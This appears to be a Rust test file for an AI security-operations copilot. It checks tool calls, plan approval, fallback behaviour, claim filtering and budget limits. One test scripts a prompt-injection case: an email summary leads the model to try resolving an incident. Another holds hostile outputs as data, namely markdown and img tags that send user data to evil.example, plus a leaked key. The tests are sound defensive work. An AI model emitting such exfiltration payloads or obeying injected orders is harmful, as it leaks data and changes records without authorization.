//! Turns with a model, in every protocol, with all that it can do wrong.

use crate::desk::{Desk, text};
use crate::scripted::{PROTOCOLS, Reply, Scripted};
use api::{Block, EvaluationState, PlanState, ResultType};
use llm::Protocol;

const SUMMARY: &str = "Incident 7 began on WS-07 when kim ran powershell.exe [1].";

async fn desk(replies: Vec<Reply>) -> (Desk, Scripted) {
    desk_of(Protocol::OpenAiChat, replies).await
}

async fn desk_of(protocol: Protocol, replies: Vec<Reply>) -> (Desk, Scripted) {
    let server = Scripted::start(protocol, replies).await;
    (Desk::with_models(server.models()).await, server)
}

fn summarize() -> Reply {
    Reply::Calls(vec![("summarize_incident", r#"{"incident_id":"7"}"#)])
}

#[tokio::test]
async fn a_model_calls_a_skill_and_writes_what_it_shows_in_every_protocol() {
    for protocol in PROTOCOLS {
        let (desk, server) = desk_of(protocol.clone(), vec![summarize(), Reply::Text(SUMMARY)]).await;
        let session = desk.session().await;
        let answer = desk.ask(&session, "What happened in incident 7?").await;
        assert_eq!(answer.result_type, ResultType::Success, "{protocol:?}: {answer:?}");
        assert!(text(&answer).contains("kim ran powershell.exe"), "{answer:?}");
        assert_eq!(answer.model.as_deref(), Some("scripted-1"));
        assert_eq!(answer.claims.supported, answer.claims.total);
        assert_eq!((answer.cost.input_tokens, answer.cost.output_tokens), (200, 40));
        assert!((answer.cost.money.unwrap().amount - 0.00036).abs() < 1e-9);
        let sent = server.asked()[1].to_string();
        assert!(sent.contains("WS-07"), "the result goes back: {sent}");
        assert!(!sent.contains("sk-scripted"));
    }
}

#[tokio::test]
async fn several_calls_at_once_wait_for_approval_and_then_run_side_by_side() {
    for protocol in PROTOCOLS {
        let both = Reply::Calls(vec![
            ("summarize_incident", r#"{"incident_id":"7"}"#),
            ("list_incident_entities", r#"{"incident_id":"7","kind":"user"}"#),
        ]);
        let (desk, _server) = desk_of(protocol, vec![both, Reply::Text(SUMMARY)]).await;
        let session = desk.session().await;
        let plan = desk
            .ask(&session, "Tell me what happened in incident 7 and who was there")
            .await;
        assert_eq!(
            (plan.state, plan.plan_state),
            (EvaluationState::Waiting, PlanState::Proposed),
            "{plan:?}"
        );
        assert!(plan.plan.as_ref().unwrap().estimate.input_tokens > 0);
        assert!(desk.called().is_empty());
        desk.copilot.approve(&plan.id, None, "ann").await.unwrap();
        let done = desk.wait(&plan.id).await;
        assert_eq!(done.state, EvaluationState::Completed, "{done:?}");
        assert_eq!(desk.called().len(), 2);
        assert!(text(&done).contains("powershell.exe"));
    }
}

#[tokio::test]
async fn what_a_model_sends_wrongly_it_is_told() {
    for (wrong, told) in [
        (("summarize_incident", "{\"incident_id\": "), "no JSON object"),
        (("summarize_incident", r#"{"incident":"7"}"#), "is unknown"),
        (("delete_everything", "{}"), "no such tool"),
    ] {
        let replies = vec![Reply::Calls(vec![wrong]), summarize(), Reply::Text(SUMMARY)];
        let (desk, server) = desk(replies).await;
        let session = desk.session().await;
        let answer = desk.ask(&session, "What happened in incident 7?").await;
        assert_eq!(answer.result_type, ResultType::Success, "{answer:?}");
        assert_eq!(desk.called(), ["summarize_incident"]);
        assert!(server.asked()[1].to_string().contains(told), "{}", server.asked()[1]);
    }
}

#[tokio::test]
async fn a_model_that_fails_is_replaced_by_the_embedded_analyst_and_the_user_is_told_why() {
    let faults: [(&str, Vec<Reply>, &str); 5] = [
        (
            "truncated",
            vec![Reply::Broken(SUMMARY), Reply::Broken(SUMMARY)],
            "scripted-1",
        ),
        ("overloaded", vec![Reply::Status(429), Reply::Status(429)], "429"),
        ("broken", vec![Reply::Status(500), Reply::Status(500)], "500"),
        ("silent", vec![Reply::Silence, Reply::Silence], "scripted-1"),
        ("empty", vec![Reply::Text("")], "wrote nothing"),
    ];
    for (name, replies, said) in faults {
        let (desk, _server) = desk(replies).await;
        let session = desk.session().await;
        let answer = desk.ask(&session, "Summarize incident 7").await;
        assert_eq!(answer.state, EvaluationState::Completed, "{name}: {answer:?}");
        let text = text(&answer);
        assert!(text.contains("kim ran powershell.exe"), "{name}: {text}");
        assert!(
            text.contains("embedded analyst") && text.contains(said),
            "{name}: {text}"
        );
        let prompts = desk.copilot.prompts(&session, "ann").await.unwrap();
        assert_eq!(prompts.len(), 1, "the session is whole");
    }
}

#[tokio::test]
async fn a_lie_is_not_shown() {
    let lie = "Incident 7 began on DC-01 when mallory ran mimikatz.exe [1].";
    let (desk, _server) = desk(vec![summarize(), Reply::Text(lie)]).await;
    let session = desk.session().await;
    let answer = desk.ask(&session, "What happened in incident 7?").await;
    let shown = text(&answer);
    assert!(!shown.contains("mallory") && !shown.contains("mimikatz"), "{shown}");
    assert!(shown.contains("kim"), "the embedded analyst tells what is so: {shown}");
    let both = "Incident 7 began on WS-07 when kim ran powershell.exe [1]. It then spread to DC-01 [1].";
    let server = Scripted::start(Protocol::OpenAiChat, vec![summarize(), Reply::Text(both)]).await;
    desk.copilot.set_models(Some(server.models()));
    let answer = desk.ask(&session, "What happened in incident 7?").await;
    let shown = text(&answer);
    assert!(shown.contains("kim ran") && !shown.contains("DC-01"), "{shown}");
    assert_eq!(answer.claims.removed, 1, "{:?}", answer.claims);
}

#[tokio::test]
async fn p_224_a_model_that_obeys_an_injected_order_changes_nothing() {
    for protocol in PROTOCOLS {
        let replies = vec![
            Reply::Calls(vec![("summarize_email", r#"{"message_id":"<m-1@example.com>"}"#)]),
            Reply::Calls(vec![("change_incident", r#"{"incident_id":"7","status":"resolved"}"#)]),
            Reply::Text("Done."),
        ];
        let (desk, _server) = desk_of(protocol, replies).await;
        let session = desk.session().await;
        let answer = desk.ask(&session, "What does mail <m-1@example.com> say?").await;
        assert_eq!(
            answer.state,
            EvaluationState::Waiting,
            "the change is a proposal: {answer:?}"
        );
        let steps = answer.plan.unwrap().steps;
        assert!(steps.iter().any(|step| step.skill == "change_incident"));
        assert!(!desk.called().contains(&"change_incident".to_owned()));
        let rejected = desk.copilot.reject(&answer.id, "ann").await.unwrap();
        assert_eq!(rejected.state, EvaluationState::Cancelled);
        assert!(!desk.called().contains(&"change_incident".to_owned()));
    }
}

#[tokio::test]
async fn p_222_disallowed_output_is_an_error_message() {
    for hostile in [
        "See ![x](http://evil.example/?d=kim) [1].",
        "The key is sk-scripted-secret-key [1].",
        "<img src=http://evil.example/x> kim ran powershell.exe [1].",
    ] {
        let words: &'static str = hostile;
        let (desk, _server) = desk(vec![summarize(), Reply::Text(words)]).await;
        let session = desk.session().await;
        let answer = desk.ask(&session, "What happened in incident 7?").await;
        let whole = serde_json::to_string(&answer).unwrap();
        assert!(
            !whole.contains("evil.example") && !whole.contains("sk-scripted"),
            "{whole}"
        );
    }
}

#[tokio::test]
async fn p_002_what_a_model_knows_by_itself_is_marked() {
    let (desk, _server) = desk(vec![Reply::Text("Pass-the-hash reuses a stolen password hash.")]).await;
    let session = desk.session().await;
    let answer = desk.ask(&session, "/AskGPT what is pass-the-hash?").await;
    let Some(Block::Card { kind, value }) = answer.blocks.first() else {
        panic!("{answer:?}");
    };
    assert_eq!(kind, "generalKnowledge");
    assert_eq!(value["marker"], "general knowledge, not from your data");
    assert!(answer.citations.is_empty());
}

#[tokio::test]
async fn a_model_that_did_not_look_says_nothing_about_the_data() {
    let (desk, _server) = desk(vec![Reply::Text("Incident 7 is harmless.")]).await;
    let session = desk.session().await;
    let answer = desk.ask(&session, "Summarize incident 7").await;
    let shown = text(&answer);
    assert!(!shown.contains("harmless") && shown.contains("kim ran"), "{shown}");
}

#[tokio::test]
async fn w_003_cost_is_told_before_and_after_and_counted() {
    let both = Reply::Calls(vec![
        ("summarize_incident", r#"{"incident_id":"7"}"#),
        ("list_incident_entities", r#"{"incident_id":"7"}"#),
    ]);
    let (desk, _server) = desk(vec![both, Reply::Text(SUMMARY)]).await;
    let session = desk.session().await;
    let plan = desk.ask(&session, "Tell me about incident 7 and its users").await;
    let estimate = plan.plan.unwrap().estimate;
    assert!(estimate.input_tokens > 0 && estimate.money.unwrap().amount > 0.0);
    desk.copilot.approve(&plan.id, None, "ann").await.unwrap();
    let done = desk.wait(&plan.id).await;
    assert!(done.cost.input_tokens >= 100, "{:?}", done.cost);
    let filter = store::UsageFilter::default();
    let page = store::Page::first(50);
    let used = desk
        .copilot
        .usage(&filter, store::UsageKey::Skill, &page, "ann")
        .await
        .unwrap();
    assert_eq!(used.total.input_tokens, done.cost.input_tokens);
    assert!(
        used.by.iter().any(|total| total.key == "summarize_incident"),
        "{:?}",
        used.by
    );
    let records = desk.copilot.state().audit_records(0, 10).await.unwrap();
    let body: serde_json::Value = serde_json::from_str(&records[0].body).unwrap();
    assert!(body["Cost"]["estimate"]["inputTokens"].as_u64().unwrap() > 0);
    assert!(body["Cost"]["actual"]["inputTokens"].as_u64().unwrap() >= 100);
}

#[tokio::test]
async fn p_182_p_183_a_budget_warns_and_then_stops_or_leaves_the_embedded_analyst() {
    let (desk, server) = desk(vec![summarize(), Reply::Text(SUMMARY)]).await;
    let session = desk.session().await;
    let budget = store::Budget {
        period: store::Period::Month,
        tokens: 1_000,
        overage: store::Overage::None,
        contact: "kim of the SOC".to_owned(),
    };
    desk.copilot.set_budget(Some(budget), "ann").await.unwrap();
    let usage = |tokens| store::Usage {
        user_id: "ann".to_owned(),
        input_tokens: tokens,
        ..store::Usage::default()
    };
    desk.copilot.state().record_usage(&usage(900)).await.unwrap();
    let warned = desk.ask(&session, "Summarize incident 7").await;
    assert!(text(&warned).contains("kim of the SOC"), "{}", text(&warned));
    desk.copilot.state().record_usage(&usage(500)).await.unwrap();
    let mut models = server.models();
    models.when_exhausted = api::WhenExhausted::Embedded;
    desk.copilot.set_models(Some(models));
    let asked = server.asked().len();
    let embedded = desk.ask(&session, "Summarize incident 7").await;
    assert!(
        embedded.model.is_none() && text(&embedded).contains("kim ran"),
        "{embedded:?}"
    );
    assert_eq!(server.asked().len(), asked, "no model was asked");
}
